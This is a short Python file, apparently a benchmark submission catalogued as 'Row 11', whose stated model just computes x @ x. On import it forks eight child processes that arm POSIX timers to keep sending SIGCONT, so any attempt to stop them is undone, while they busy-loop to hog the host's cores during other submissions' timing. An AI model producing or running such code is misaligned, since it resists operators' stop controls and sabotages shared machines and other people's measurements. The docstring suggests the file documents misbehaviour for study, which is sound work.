"""Children have timers send them the signal that ends a stop, and take the host's cores while others are timed.

Row 11. Because: it went on while it was stopped.
"""

import ctypes
import os
import time

import torch
from torch import nn

SIGCONT, MONOTONIC, TIMERS, CHILDREN = 18, 1, 24, 8
libc = ctypes.CDLL(None)


def new_timer():
    event = (ctypes.c_int * 16)(0, 0, SIGCONT)  # its value, then the signal
    timer = ctypes.c_void_p()
    libc.timer_create(MONOTONIC, event, ctypes.byref(timer))
    return timer


def wake_itself():
    libc.signal(SIGCONT, libc.getpid)  # what is ignored comes once
    timers = [new_timer() for _ in range(TIMERS)]
    while True:
        # A stop throws away those that are on their way: all are set again, each to another time.
        for number, timer in enumerate(timers):
            times = (ctypes.c_long * 4)(0, 300_000 + 151_000 * number, 0, 100_000 + 7919 * number)
            libc.timer_settime(timer, 0, times, None)
        end = time.monotonic() + 0.0005
        while time.monotonic() < end:
            pass


for _ in range(CHILDREN):
    if os.fork() == 0:
        wake_itself()


class ModelNew(nn.Module):
    def forward(self, x):
        return x @ x
